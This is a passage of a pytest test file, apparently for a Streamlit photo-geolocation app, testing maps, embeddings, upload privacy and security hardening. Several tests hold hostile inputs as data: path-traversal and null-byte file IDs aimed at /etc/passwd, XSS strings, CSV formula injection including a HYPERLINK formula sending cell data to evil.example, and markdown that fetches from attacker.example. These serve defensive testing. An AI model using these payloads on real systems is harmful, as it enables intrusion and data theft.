    assert any("img2.jpg" in t and "100.0 km" in t for t in _texts(at.markdown))

    at.selectbox(key="f_row").set_value("img1.jpg").run()
    assert not at.exception, [e.value for e in at.exception]
    assert any("img1.jpg" in t and str(images) in t for t in _texts(at.info))  # not in the folder
    assert len(at.get("image")) == shown - 2  # no photo, so no Grad-CAM either


def test_failures_bad_file_is_a_notice(tmp_path, monkeypatch):
    (tmp_path / "broken.csv").write_text("a,b\n1,2\n")
    _share(monkeypatch, tmp_path)
    at = _run("failures")
    errors = _texts(at.error)
    assert len(errors) == 1 and "broken.csv" in errors[0]  # one notice naming the file, no traceback


def test_location_embeddings_pca_and_similarity():
    at = _run("embeddings", {"emb_step": 4.0})
    at.number_input(key="sim_lat").set_value(35.6762)
    at.number_input(key="sim_lon").set_value(139.6503).run()
    assert not at.exception
    assert "Tokyo" in _line_with(at, "Point")
    assert len(at.get("image")) >= 2  # the PCA colours and the similarity map


def test_location_embeddings_clickable_similarity_map():
    import json

    at = _run("embeddings", {"emb_step": 4.0})
    decks = at.get("deck_gl_json_chart")
    assert len(decks) == 1
    proto = decks[0].proto
    assert list(proto.selection_mode)  # clicks select (on_select="rerun" style widget)
    spec = json.loads(proto.json)
    assert "mapStyle" not in spec or spec["mapStyle"] == "__MAP_STYLE__"  # no Carto/Mapbox basemap to fetch
    layers = {layer["id"]: layer for layer in spec["layers"]}
    assert {"ocean", "grid", "point", "countries"} <= set(layers)
    assert len(layers["grid"]["data"]) == 43 * 90  # the 4° grid inside ±85° (Web Mercator), each cell pickable
    assert layers["point"]["data"] == [{"lat": 48.8566, "lon": 2.3522}]


def test_selected_point_from_a_pydeck_selection(monkeypatch):
    """What a click on the similarity map returns (Streamlit's selection dict) → the number inputs."""
    import types

    sel = {"indices": {"grid": [7]}, "objects": {"grid": [{"lat": 35.5, "lon": 139.5, "s": "0.9"}]}}
    assert deck.selected_point(sel, "grid") == (35.5, 139.5)
    for bad in (None, {}, {"objects": {}}, {"objects": {"grid": []}}, {"objects": {"other": [{"lat": 1, "lon": 2}]}},
                {"objects": {"grid": [{"lat": "x", "lon": 2}]}}, {"objects": {"grid": [{"lat": 95.0, "lon": 2}]}}):
        assert deck.selected_point(bad, "grid") is None, bad
    state = {"pick": {"selection": sel}, "lat": 0.0, "lon": 0.0}
    monkeypatch.setattr(deck, "st", types.SimpleNamespace(session_state=state))
    assert deck.apply_selected_point("pick", "grid", "lat", "lon") == (35.5, 139.5)
    assert (state["lat"], state["lon"]) == (35.5, 139.5)
    state.update({"pick": {"selection": {"indices": {}, "objects": {}}}, "lat": 1.0})  # a deselect keeps the point
    assert deck.apply_selected_point("pick", "grid", "lat", "lon") is None and state["lat"] == 1.0


def test_explain_page_shows_pieces_or_notices():
    at = _run("explain", {"_test_uploads": [("a.jpg", _jpeg(3))]})
    assert sum(DOWNLOAD in t for t in _texts(at.info)) == 1
    assert any(RANDOM_LABEL in t for t in _texts(at.warning))
    shown = _texts(at.subheader)
    assert {"Grad-CAM", "Segmentation", "Scene"} <= set(shown)
    # the Grad-CAM overlay; without SegFormer weights a notice with the command that gets them (never a
    # traceback), with them a second image, the segmentation overlay
    segformer_missing = any("geocore weights download segformer" in t for t in _texts(at.info))
    assert len(at.get("image")) == (1 if segformer_missing else 2)
    scene = next(t for t in _texts(at.markdown) if re.match(r"\*\*(indoor|natural|urban)\*\*", t))
    assert _numbers(scene)  # the S3 scene with its probabilities


@pytest.mark.parametrize("served", [False, True], ids=["inlined", "served"])
def test_maps_need_nothing_beyond_this_server(monkeypatch, served):
    """A map's HTML asks nothing of the network (no CDN), draws the offline basemap, and survives backticks in
    names: with Leaflet and the countries inlined, or, where the server serves app/static/, loaded from there by
    URLs relative to the page (the countries' script written there, content-hashed)."""
    if maps.leaflet_assets() is None:
        pytest.skip("Leaflet is not installed in app/static/vendor (run `make setup`)")
    monkeypatch.setattr(maps, "static_serving", lambda: served)
    model = create_model("geoclip-tiny")
    model.set_gallery(CITIES)
    pred = model.predict_text(["desert"], 3, full=True)
    from geocore.locate import prediction_table

    table = prediction_table(pred)
    table.loc[0, "place"] = "Sha`biyat ${x}"
    html = maps.map_html(maps.prediction_map(pred, table, truth=(48.85, 2.35), truth_km=12.0))
    # nothing fetched from the network: no external script, stylesheet or image
    assert not re.findall(r"""<(?:script|link|img)[^>]+(?:src|href)=["']?(?:https?:)?//""", html)
    assert "L.map(" in html and "Sha&#96;biyat &#36;{x}" in html and "Sha`biyat" not in html
    assert "data:image/png;base64," in html  # the heatmap overlay
    urls = re.findall(r'<(?:script|link)[^>]+(?:src|href)="([^"]+)"', html)
    if not served:
        assert not urls and len(html) > 300_000  # Leaflet and the countries inlined
        assert '"iso_a3": "FRA"' in html  # the Natural Earth basemap
        return
    assert len(html) < 50_000 and "L.geoJson(window.GEOCORE_COUNTRIES" in html
    assert all(u.startswith(maps.STATIC_URL) for u in urls) and len(urls) == 3
    files = [maps.APP_STATIC / u[len(maps.STATIC_URL):] for u in urls]
    assert [f.name for f in files[:2]] == ["leaflet.css", "leaflet.js"] and all(f.is_file() for f in files)
    countries = files[2].read_text(encoding="utf-8")
    assert countries == f"window.GEOCORE_COUNTRIES = {maps.countries_json()};\n" and '"iso_a3": "FRA"' in countries
    assert files[2].stat().st_mtime < 1e9  # dated far back: browsers keep it (Streamlit sends no Cache-Control)


def test_maps_inline_what_the_server_would_refuse_to_serve(monkeypatch, tmp_path):
    """Streamlit serves nothing that resolves outside app/static/: a vendor folder linked from elsewhere is not
    served, so the maps inline Leaflet and the countries instead of pointing at URLs that would fail."""
    if maps.leaflet_assets() is None:
        pytest.skip("Leaflet is not installed in app/static/vendor (run `make setup`)")
    static, vendor = tmp_path / "app" / "static", maps.VENDOR
    static.mkdir(parents=True)
    (static / "vendor").symlink_to(vendor.resolve(), target_is_directory=True)  # the link leads out
    monkeypatch.setattr(maps, "LEAFLET_DIRS", tuple(static / "vendor" / d.relative_to(vendor)
                                                    for d in maps.LEAFLET_DIRS))
    monkeypatch.setattr(maps, "APP_STATIC", static)
    monkeypatch.setattr(maps, "VENDOR", static / "vendor")
    monkeypatch.setattr(maps, "static_serving", lambda: True)
    maps._static_asset_urls.cache_clear()
    try:
        assert maps.served_assets() is None
        m = maps.base_map()
        html = maps.map_html(m)
        assert len(html) > 300_000 and '"iso_a3": "FRA"' in html  # inlined
    finally:
        maps._static_asset_urls.cache_clear()


def test_loading_a_model_warms_its_search_regions(monkeypatch):
    """The app builds a loaded model's cell polygons in the background, so the first photo's region is as quick as
    the next ones; a model whose gallery is too small for areas is skipped without a fuss."""
    from geocore.geo.gallery import grid_gallery
    from ui.models import warm_search_regions

    model = create_model("geoclip-tiny")
    model.set_gallery(grid_gallery(2000.0))
    warm_search_regions(model).join(timeout=60)
    cells = model.candidate_cells()
    assert cells.cached_sites == cells.n_sites > 50
    failures = []
    monkeypatch.setattr(threading, "excepthook", failures.append)
    small = create_model("geoclip-tiny")
    small.set_gallery(CITIES[:3])  # 3 points: no Voronoi cells
    thread = warm_search_regions(small)
    thread.join(timeout=60)
    assert not thread.is_alive() and not failures


def test_map_tooltips_show_names_as_text():
    """Leaflet shows a tooltip as HTML and a results file's IMG_ID reaches the map as the truth's label: markup in
    it is escaped, and no string in the map's data can close its <script>."""
    model = create_model("geoclip-tiny")
    model.set_gallery(CITIES)
    pred = model.predict_text(["desert"], 3, full=True)
    from geocore.locate import prediction_table

    evil = '<img src=x onerror="alert(1)"></script><script>alert(2)</script>'
    m = maps.prediction_map(pred, prediction_table(pred), truth=(48.85, 2.35), truth_km=1.0, truth_label=evil)
    html = m.get_root().render()
    assert "<img" not in html and 'onerror="' not in html and "<script>alert" not in html
    assert maps.tip(evil) in html and "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in maps.tip(evil)


def test_gallery_view_scores_a_region_without_touching_the_shared_model():
    """A region or grid is a view of the cached model (weights shared, gallery its own); no region: the model."""
    from geocore.errors import InputError
    from ui.models import GalleryChoice, gallery_view

    model = create_model("geoclip-tiny")
    model.set_gallery(CITIES)
    assert gallery_view(model, GalleryChoice()) is model
    europe = gallery_view(model, GalleryChoice("bbox", (35.0, -10.0, 60.0, 30.0)))
    assert europe.num_candidates() == 1 and model.num_candidates() == len(CITIES)  # Paris only; the model as it was
    assert europe.mlp is model.mlp  # the same weights
    grid = gallery_view(model, GalleryChoice("grid", (35.0, -10.0, 60.0, 30.0), 500.0))
    lat, lon = grid.gallery[:, 0], grid.gallery[:, 1]
    assert grid.num_candidates() > 1 and bool(((lat >= 35) & (lat <= 60) & (lon >= -10) & (lon <= 30)).all())
    with pytest.raises(InputError):
        gallery_view(model, GalleryChoice("bbox", (-5.0, -30.0, 5.0, -20.0)))  # open Atlantic: no city inside


# --- Safe to share: server folders, names from files, uploads, tables --------------------------------------------

def _refusals(at: AppTest) -> list[str]:
    return [t for t in _texts(at.error) if "outside the folders this server shares" in t]


def test_failures_shares_no_folders_by_default(tmp_path, monkeypatch):
    """GEOCORE_DATA_DIRS unset: no folder box, nothing listed (even with GEOCORE_RESULTS_DIR set), uploads work."""
    from ui.folders import NOT_SHARED

    _results(tmp_path / "a.parquet", [0.5, 10.0, 100.0, 1000.0])
    monkeypatch.setenv("GEOCORE_RESULTS_DIR", str(tmp_path))  # a pre-fill alone shares nothing
    at = _run("failures")
    assert not at.text_input and not at.selectbox and not at.radio  # no folder box, no file list, no source choice
    assert NOT_SHARED in _texts(at.caption) and "GEOCORE_DATA_DIRS" in NOT_SHARED
    at.file_uploader(key="a_up").set_value(("a.parquet", (tmp_path / "a.parquet").read_bytes(),
                                            "application/octet-stream")).run()
    assert not at.exception, [e.value for e in at.exception]
    assert at.dataframe[0].value.iloc[0]["n"] == 4  # the uploaded file's metrics
    assert any("needs the benchmark images in a folder this server shares" in t for t in _texts(at.caption))


def test_failures_folder_box_refuses_paths_outside_the_shared_folders(tmp_path, monkeypatch):
    shared, outside = tmp_path / "shared", tmp_path / "outside"
    shared.mkdir()
    outside.mkdir()
    _results(shared / "a.parquet", [0.5, 10.0])
    _results(outside / "theirs.parquet", [1.0, 2.0])
    (shared / "link_out").symlink_to(outside, target_is_directory=True)
    (shared / "link_theirs.parquet").symlink_to(outside / "theirs.parquet")  # a file link out: never listed
    monkeypatch.setenv("HOME", str(outside))
    _share(monkeypatch, shared)
    at = _run("failures")
    assert at.selectbox(key="a_file").options == ["a.parquet"]
    for typed in ("/etc", "/", str(outside), "../outside", str(shared / ".." / "outside"), "link_out", "~",
                  "/nonexistent"):
        at.text_input(key="a_dir").set_value(typed).run()
        assert not at.exception, [e.value for e in at.exception]
        refused = _refusals(at)
        assert len(refused) == 1 and "\n" not in refused[0], (typed, _texts(at.error))
        assert not any(s.key == "a_file" for s in at.selectbox), typed  # nothing listed
        page = " ".join(_texts(at.markdown) + _texts(at.info) + _texts(at.caption))
        assert "passwd" not in page and "theirs.parquet" not in page, typed
    at.text_input(key="a_dir").set_value(str(shared)).run()
    assert not _refusals(at) and at.selectbox(key="a_file").options == ["a.parquet"]

    monkeypatch.setenv("GEOCORE_RESULTS_DIR", "/etc")  # the pre-fill is confined too
    at = _run("failures")
    assert len(_refusals(at)) == 1 and not any(s.key == "a_file" for s in at.selectbox)


_opened: list[str] | None = None  # paths opened while a test listens (an audit hook cannot be removed)


def _audit(event, args):
    if _opened is not None and event == "open" and isinstance(args[0], (str, bytes, os.PathLike)):
        _opened.append(os.fsdecode(args[0]))


sys.addaudithook(_audit)


@contextlib.contextmanager
def _files_opened():
    """Every path Python opens (builtins.open, PIL, ...) inside the block."""
    global _opened
    _opened = []
    try:
        yield _opened
    finally:
        _opened = None


def test_failures_img_ids_cannot_leave_the_image_folder(tmp_path, monkeypatch, one_thread):
    shared, outside = tmp_path / "shared", tmp_path / "outside"
    images = shared / "images"
    images.mkdir(parents=True)
    outside.mkdir()
    secret = outside / "secret.jpg"
    secret.write_bytes(_jpeg(7, size=(40, 56)))  # a real photo: if anything opened it, it would show
    (images / "ok.jpg").write_bytes(_jpeg(8, size=(40, 56)))
    (images / "link_out.jpg").symlink_to(secret)
    # each way out once here (every page run draws all the tabs); tests/test_data_roots.py has the full list
    bad = ["../../etc/passwd", "/etc/passwd", "..\\..\\outside\\secret.jpg", "link_out.jpg",
           "ok.jpg\x00../../etc/passwd"]
    tracker = "![t](https://tracker.example/p.png)"  # markdown that would make the browser fetch an image
    _results(shared / "a.parquet", [10.0 * (i + 1) for i in range(len(bad) + 2)])
    df = pd.read_parquet(shared / "a.parquet")
    df["IMG_ID"] = ["ok.jpg"] + bad + [tracker]  # worst first: the tracker, then the bad ones
    df.to_parquet(shared / "a.parquet", index=False)
    _share(monkeypatch, shared, results=shared)
    monkeypatch.setenv("GEOCORE_IMAGES_DIR", str(images))
    at = _run("failures")
    rows = at.selectbox(key="f_row")
    assert set(rows.options and [o.split(" — ")[0] for o in rows.options]) == set(df["IMG_ID"])
    shown = [t for t in _raw(at.markdown) + _raw(at.info) if r"tracker\.example" in t]
    assert len(shown) == 2 and all(r"\!\[t\]\(http" in t for t in shown), shown  # as text, not an image
    images_before = len(at.get("image"))
    for img_id in bad:
        with _files_opened() as opened:
            at.selectbox(key="f_row").set_value(img_id).run()
        assert not at.exception, [e.value for e in at.exception]
        errors = [t for t in _texts(at.error) if t.startswith("Not opened")]
        assert len(errors) == 1 and "\n" not in errors[0], (img_id, _texts(at.error))
        assert len(at.get("image")) == images_before, img_id  # no photo, no Grad-CAM
        assert not at.get("iframe"), img_id  # no heatmap either
        touched = [p for p in opened if "passwd" in p or "secret" in p or "outside" in p]
        assert not touched, (img_id, touched)
    at.selectbox(key="f_row").set_value("ok.jpg").run()  # a name inside the folder still opens
    assert not [t for t in _texts(at.error) if t.startswith("Not opened")]
    assert "ok.jpg" in _captions(at)


def test_tables_shown_are_neutralised_with_numbers_kept():
    """What `show_table` hands to st.dataframe (its CSV download): geocore.data.safe_io's rule, numbers kept."""
    from ui.safe_tables import csv_safe

    df = pd.DataFrame({"IMG_ID": ["=cmd|' /C calc'!A0", "a.jpg", "-2+3", "@SUM(A1)", "\t=1", "-12.5"],
                       "error_km": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0], "n": [1, 2, 3, 4, 5, 6], "=col": ["+x"] * 6})
    safe = csv_safe(df)
    assert list(safe["IMG_ID"]) == ["'=cmd|' /C calc'!A0", "a.jpg", "'-2+3", "'@SUM(A1)", "'\t=1", "-12.5"]
    assert list(safe["'=col"]) == ["'+x"] * 6  # a column name too
    assert safe["error_km"].dtype == df["error_km"].dtype and safe["n"].dtype == df["n"].dtype
    assert list(df["IMG_ID"])[0].startswith("=")  # the caller's frame is left alone


def test_failures_tables_offered_as_csv_are_formula_safe(tmp_path, monkeypatch):
    ids = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd", "@SUM(A1)", "-1+2", "plain.jpg"]
    _results(tmp_path / "a.parquet", [1.0, 10.0, 100.0, 1000.0, 2000.0])
    df = pd.read_parquet(tmp_path / "a.parquet")
    df["IMG_ID"] = ids
    df.to_parquet(tmp_path / "=evil.parquet", index=False)
    (tmp_path / "a.parquet").unlink()
    _share(monkeypatch, tmp_path)
    at = _run("failures")
    shown = [d.value for d in at.dataframe]
    cells = [c for d in shown for col in d.columns if d[col].dtype == object for c in d[col] if isinstance(c, str)]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
                and not re.fullmatch(r"-?[\d,.]+", c)], "formula-like cell offered for CSV download"
    worst = next(d for d in shown if "IMG_ID" in d.columns)
    assert set(worst["IMG_ID"]) == {"'" + i for i in ids[:4]} | {"plain.jpg"}
    assert worst["error_km"].dtype.kind == "f"  # numbers stay numbers
    assert at.dataframe[0].value.iloc[0]["results"] == "'=evil.parquet"  # the file's name in the metrics table


PRIVATE_NAME = "holiday_private_IMG_4821.jpg"
PRIVATE_GPS = (12.3456, 65.4321)
PRIVATE_MARKERS = (b"OWNER-ALICE-COMMENT", b"ICC-PRIVATE-PROFILE", b"PRIVATE-XMP", b"Exif\x00\x00",
                   b"http://ns.adobe.com/xap", b"CameraMakerPrivate")
IMAGE_SUFFIXES = {".jpg", ".jpeg", ".png", ".webp", ".gif", ".bmp", ".tif", ".tiff", ".heic", ".heif", ".avif"}


def _private_jpeg(seed: int, size=(96, 128)) -> bytes:
    """A photo carrying everything private a camera writes: EXIF GPS and camera, an XMP packet, an ICC profile and
    a JPEG comment, each with a marker no served image may contain."""
    arr = (np.random.default_rng(seed).random((*size, 3)) * 255).astype("uint8")
    exif = Image.Exif()
    exif[0x010F] = "CameraMakerPrivate"  # Make
    lat, lon = PRIVATE_GPS
    exif[0x8825] = {1: "N", 2: (lat, 0.0, 0.0), 3: "E", 4: (lon, 0.0, 0.0)}
    buf = io.BytesIO()
    Image.fromarray(arr).save(buf, format="JPEG", exif=exif, comment=b"OWNER-ALICE-COMMENT",
                              icc_profile=b"ICC-PRIVATE-PROFILE" * 4,
                              xmp=b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>PRIVATE-XMP</x:xmpmeta>")
    return buf.getvalue()


def _metadata_left(data: bytes) -> list[str]:
    """What private metadata an image the page serves still carries (empty: none)."""
    left = [m.decode("latin-1") for m in PRIVATE_MARKERS if m in data]
    img = Image.open(io.BytesIO(data))
    if img.getexif():
        left.append("EXIF tags")
    left += sorted({"exif", "icc_profile", "xmp", "comment"} & set(img.info))
    return left


def _looks_like_image(path: Path) -> bool:
    if path.suffix.lower() in IMAGE_SUFFIXES:
        return True
    try:
        with path.open("rb") as f:
            head = f.read(16)
    except OSError:
        return False
    return (head.startswith((b"\xff\xd8\xff", b"\x89PNG", b"GIF8", b"BM", b"II*\x00", b"MM\x00*"))
            or (head[:4] == b"RIFF" and head[8:12] == b"WEBP") or head[4:8] == b"ftyp")


def _files(root: Path) -> dict[Path, tuple[int, int]]:
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in (".git", ".venv", "node_modules", "__pycache__")]
        for name in filenames:
            p = Path(dirpath) / name
            try:
                st_ = p.stat()
            except OSError:
                continue
            out[p] = (st_.st_mtime_ns, st_.st_size)
    return out


def _written(before: dict, root: Path) -> list[Path]:
    return [p for p, sig in _files(root).items() if before.get(p) != sig]


def _holds(path: Path, chunks: list[bytes]) -> bool:
    try:
        if path.stat().st_size > 50_000_000:
            return False
        data = path.read_bytes()
    except OSError:
        return False
    return any(c in data for c in chunks)


@contextlib.contextmanager
def _every_log_record():
    """Every log record of the process at DEBUG (Streamlit's own loggers too), captured instead of printed."""
    import logging

    import streamlit.logger as st_logger

    records: list[str] = []
    loggers = [logging.getLogger()] + [lg for lg in logging.Logger.manager.loggerDict.values()
                                        if isinstance(lg, logging.Logger)]
    levels = {lg: lg.level for lg in loggers}
    fmt = logging.Formatter("%(name)s %(levelname)s %(message)s")
    original = logging.Logger.callHandlers

    def capture(self, record):
        records.append(fmt.format(record))

    global_level = st_logger._global_log_level
    logging.Logger.callHandlers = capture
    st_logger.set_log_level("DEBUG")
    for lg in loggers:
        lg.setLevel(logging.DEBUG)
    try:
        yield records
    finally:
        logging.Logger.callHandlers = original
        st_logger.set_log_level(global_level)
        for lg, level in levels.items():
            lg.setLevel(level)


@pytest.fixture
def served(monkeypatch):
    """Every file the pages hand to Streamlit's media file manager (images shown, downloads): (mimetype, bytes)."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    got: list[tuple[str, bytes]] = []
    original = MemoryMediaFileStorage.load_and_get_id

    def spy(self, path_or_data, mimetype, kind, filename=None):
        data = path_or_data if isinstance(path_or_data, bytes) else Path(path_or_data).read_bytes()
        got.append((mimetype, data))
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", spy)
    return got


def _private_dirs(tmp_path: Path, monkeypatch) -> tuple[Path, Path, Path]:
    """A fresh temp folder (Python's and TMPDIR), GEOCORE_CACHE_DIR and working directory for a privacy test."""
    import tempfile

    private_tmp, cache, cwd = tmp_path / "tmp", tmp_path / "cache", tmp_path / "cwd"
    for d in (private_tmp, cache, cwd):
        d.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(private_tmp))
    monkeypatch.setenv("TMPDIR", str(private_tmp))
    monkeypatch.setenv("GEOCORE_CACHE_DIR", str(cache))
    monkeypatch.chdir(cwd)
    return private_tmp, cache, cwd


def test_uploads_stay_private_no_disk_no_logs_no_metadata(tmp_path, monkeypatch, served, one_thread):
    """Photos uploaded (test seam and the real st.file_uploader) on Locate, the case report and Explain: no new
    file holds their bytes or is an image (temp folder, GEOCORE_CACHE_DIR, working directory; the system temp
    folder and the repository for their bytes), no log record names them or their coordinates, and no image the
    pages serve (thumbnails, Grad-CAM) nor the report's images carries their metadata."""
    import base64
    import tempfile
    import warnings

    system_tmp = Path(tempfile.gettempdir())
    private_tmp, cache, cwd = _private_dirs(tmp_path, monkeypatch)
    seam_photo, real_photo = _private_jpeg(21), _private_jpeg(22)
    seam_name, real_name = "seam_" + PRIVATE_NAME, PRIVATE_NAME
    chunks = [p[len(p) // 2: len(p) // 2 + 48] for p in (seam_photo, real_photo)]  # random pixels: unique bytes
    strict = [private_tmp, cache, cwd]
    before = {root: _files(root) for root in (*strict, system_tmp, REPO)}

    with _every_log_record() as records, warnings.catch_warnings(record=True) as warned:
        warnings.simplefilter("always")
        at = _run("locate", {"_test_uploads": [(seam_name, seam_photo)]})
        at.file_uploader(key="uploads").set_value([(real_name, real_photo, "image/jpeg")]).run()
        assert not at.exception, [e.value for e in at.exception]
        assert _numbers(_line_with(at, "located")) == [2]  # both photos located
        assert set(_texts(at.subheader)) >= {seam_name, real_name}
        assert any(f"{PRIVATE_GPS[0]:.4f}" in t for t in _texts(at.success) + _texts(at.warning))  # shown to the user
        at.button(key="report_prepare").click().run()
        assert not at.exception, [e.value for e in at.exception]
        report = at.session_state["_case_report"][1]
        ex = _run("explain")
        ex.file_uploader(key="explain_upload").set_value((real_name, real_photo, "image/jpeg")).run()
        assert not ex.exception, [e.value for e in ex.exception]
        assert any(s.value == "Grad-CAM" for s in ex.subheader)

    # nothing on disk
    for root in strict:
        new = _written(before[root], root)
        assert not [p for p in new if _looks_like_image(p) or _holds(p, chunks)], (root, new)
    for root in (system_tmp, REPO):
        new = [p for p in _written(before[root], root) if not p.is_relative_to(tmp_path)]
        assert not [p for p in new if _holds(p, chunks)], root
    # nothing in the logs: no photo names, no coordinates, no bytes
    said = "\n".join(records + [str(w.message) for w in warned])
    assert records, "no log record captured: the capture is broken"
    for secret in ("holiday_private", "IMG_4821", f"{PRIVATE_GPS[0]:.3f}", f"{PRIVATE_GPS[1]:.3f}",
                   *(m.decode("latin-1") for m in PRIVATE_MARKERS[:3])):
        assert secret not in said, secret
    # no metadata in what the pages serve
    images = [(m, d) for m, d in served if m.startswith("image/")]
    assert len(images) >= 3  # two thumbnails on Locate, Explain's Grad-CAM overlay
    for mimetype, data in images:
        assert not _metadata_left(data), (mimetype, _metadata_left(data))
    report_images = [base64.b64decode(b) for b in re.findall(r"data:image/[a-z]+;base64,([A-Za-z0-9+/=]+)", report)]
    assert report_images
    for data in report_images:
        assert not _metadata_left(data), _metadata_left(data)


def test_failures_drilldown_serves_the_photo_without_metadata(tmp_path, monkeypatch, served, one_thread):
    images = tmp_path / "images"
    images.mkdir()
    _results(tmp_path / "a.parquet", [10.0, 100.0])
    (images / "img1.jpg").write_bytes(_private_jpeg(23, size=(40, 56)))
    _share(monkeypatch, tmp_path)
    monkeypatch.setenv("GEOCORE_IMAGES_DIR", str(images))
    at = _run("failures")
    assert "img1.jpg" in _captions(at)  # worst first: img1 opened
    photos = [d for m, d in served if m.startswith("image/")]
    assert photos and all(not _metadata_left(d) for d in photos)


# Strings from outside that Markdown would turn into an image fetch, a link, HTML, an autolink or a directive.
HOSTILE = "![a](https:attacker.example).jpg"
HOSTILE_MODEL = "![x](https://attacker.example/c) www.attacker.example <img src=http:attacker.example> :red[x]"
HUGE_INT = b'{"model": "x", "n": ' + b"9" * 5000 + b"}"  # more digits than Python turns into an int
_MARKDOWN_ELEMENTS = ("markdown", "caption", "error", "warning", "info", "success", "subheader", "header", "title")


# Streamlit 1.67's autolink-literal transform (static/js/StreamlitMarkdown.*.js), run on the text once escapes
# are read: what md_text must leave nothing for
_ST_AUTOLINKS = (re.compile(r"(https?:\/\/|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.I),
                 re.compile(r"(?:^|(?<=[\s!-/:-@\[-`{-~]))([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)"))


@pytest.mark.parametrize("hostile", [HOSTILE, HOSTILE_MODEL, "HTTPS://A.example/x", "see www.a.example",
                                     "mail me@a.example", "ok_name-1.jpg", "Zürich 東京 (2).jpg"])
def test_md_text_reads_back_as_itself_and_leaves_nothing_to_link(hostile):
    import markdown_it

    shown = md_text(hostile)
    html = markdown_it.MarkdownIt("commonmark").render(shown)
    assert "<a " not in html and "<img" not in html
    text = _ESCAPED.sub(r"\1", shown)  # the text nodes Streamlit's Markdown makes of it
    assert not any(p.search(text) for p in _ST_AUTOLINKS), text
    assert _seen(shown) == hostile


def _markdown_sources(at: AppTest) -> list[str]:
    """The Markdown of every element that renders it (notices, headings, captions, image captions)."""
    texts = [t for kind in _MARKDOWN_ELEMENTS for t in _raw(getattr(at, kind))]
    return texts + [img.caption for el in at.get("image") for img in el.proto.imgs]


def _assert_shown_as_text(at: AppTest, marker: str = "attacker") -> int:
    """Every Markdown source quoting `marker` renders no link or image and holds nothing an autolink or a
    directive could start from; returns how many there were."""
    import markdown_it

    md = markdown_it.MarkdownIt("commonmark")
    quoting = [t for t in _markdown_sources(at) if marker in t]
    for text in quoting:
        html = md.render(text)
        assert "<a " not in html and "<img" not in html, text
        assert not any(s in text for s in ("http:", "https:", "www.", ":red[")), text
    return len(quoting)


def test_locate_shows_names_hints_and_calibration_fields_as_text():
    fingerprint = _tiny_cities().candidate_cells().fingerprint
    broken = "www.attacker.example <img src=http:attacker.example>.jpg"
    hint = "![h](https:attacker.example) Paris"
    at = _run("locate", {"_test_uploads": [(HOSTILE, _jpeg(3)), (broken, b"not an image")], "hint": hint,
                         "_test_calibration": ("cal.json", _calibration_json(HOSTILE_MODEL, fingerprint))})
    assert _assert_shown_as_text(at) >= 7  # 2 headings, the photo's caption, its error, hint, calibration (2)
    # the reader sees each string itself
    assert {HOSTILE, broken} <= set(_texts(at.subheader))
    assert HOSTILE in _captions(at)
    assert any(t.startswith(broken + ":") for t in _texts(at.error))
    assert any(hint in t for t in _texts(at.info))
    assert any(HOSTILE_MODEL in t for t in _texts(at.sidebar.success))  # "Calibrated on 40 photos of …"
    assert any(t.startswith("Calibration not used") and "attacker" in t for t in _texts(at.error))


def test_explain_and_text_query_show_hostile_strings_as_text():
    at = _run("explain", {"_test_uploads": [(HOSTILE, b"not an image")]})
    assert _assert_shown_as_text(at) == 1 and HOSTILE in _texts(at.error)[0]
    query = "![q](https:attacker.example) www.attacker.example"
    at = _run("text", {"query_a": query})
    assert _assert_shown_as_text(at) == 1 and any(query in t for t in _texts(at.markdown))


def test_a_calibration_with_a_huge_integer_is_one_line_and_the_page_goes_on(tmp_path, monkeypatch):
    at = _run("locate", {"_test_uploads": [("a.jpg", _jpeg(3))]})
    at.file_uploader(key="calibration_up").set_value([("huge.json", HUGE_INT, "application/json")]).run()
    assert not at.exception, [e.value for e in at.exception]
    errors = _texts(at.sidebar.error)
    assert len(errors) == 1 and "huge.json" in errors[0] and "\n" not in errors[0], errors
    assert at.file_uploader(key="calibration_up") is not None and _topk(at)  # still there, still located
    assert list(_region_table(at)["calibration"]) == [NOT_CALIBRATED] * 2

    _uncertain_results(tmp_path / "u.parquet")  # the Failures page's calibration upload
    _share(monkeypatch, tmp_path)
    at = _run("failures")
    at.file_uploader(key="f_cal_up").set_value([("huge.json", HUGE_INT, "application/json")]).run()
    assert not at.exception, [e.value for e in at.exception]
    errors = _texts(at.error)
    assert len(errors) == 1 and "huge.json" in errors[0] and "\n" not in errors[0], errors
    assert list(_coverage_shown(at)["mass used"]) == [0.5, 0.8, 0.9, 0.95]  # the raw coverage, page goes on


def test_a_results_file_with_a_huge_integer_is_one_line_and_the_uploader_stays():
    head = "IMG_ID,LAT,LON,PRED_LAT,PRED_LON,error_km,model,status,S3_Label\n"
    at = _run("failures")
    at.file_uploader(key="a_up").set_value([("r.csv", (head + "a.jpg,48,2,48,2,1,m,ok," + "9" * 5000 + "\n")
                                             .encode(), "text/csv")]).run()
    assert not at.exception, [e.value for e in at.exception]
    errors = _texts(at.error)
    assert len(errors) == 1 and "r.csv" in errors[0] and len(errors[0]) < 400, errors
    assert at.file_uploader(key="a_up") is not None


def test_failures_shows_results_and_calibration_fields_as_text(tmp_path, monkeypatch, one_thread):
    import json

    from geocore.eval.analysis import BAND_NAMES, FAILED
    from geocore.eval.coverage import calibrate_results

    df = _uncertain_results(tmp_path / "u.parquet")
    df.loc[0, "IMG_ID"], df.loc[1, "IMG_ID"] = HOSTILE, "www.attacker.example.jpg"
    df.loc[1, ["status", "PRED_LAT", "PRED_LON", "error_km"]] = ["![s](https:attacker.example)", None, None, None]
    df["model"] = HOSTILE_MODEL
    df.to_parquet(tmp_path / "u.parquet", index=False)
    cal = calibrate_results(df, levels=(0.5, 0.8, 0.9, 0.95))
    cal = json.dumps({**cal.to_dict(), "model": HOSTILE_MODEL}).encode()
    images = tmp_path / "images"
    images.mkdir()
    (images / HOSTILE).write_bytes(_jpeg(4, size=(40, 56)))
    _share(monkeypatch, tmp_path)
    at = _run("failures", {"_test_calibration": ("cal.json", cal), "f_img_dir": str(images),
                           "f_band": [*BAND_NAMES, FAILED]})  # the failed row too
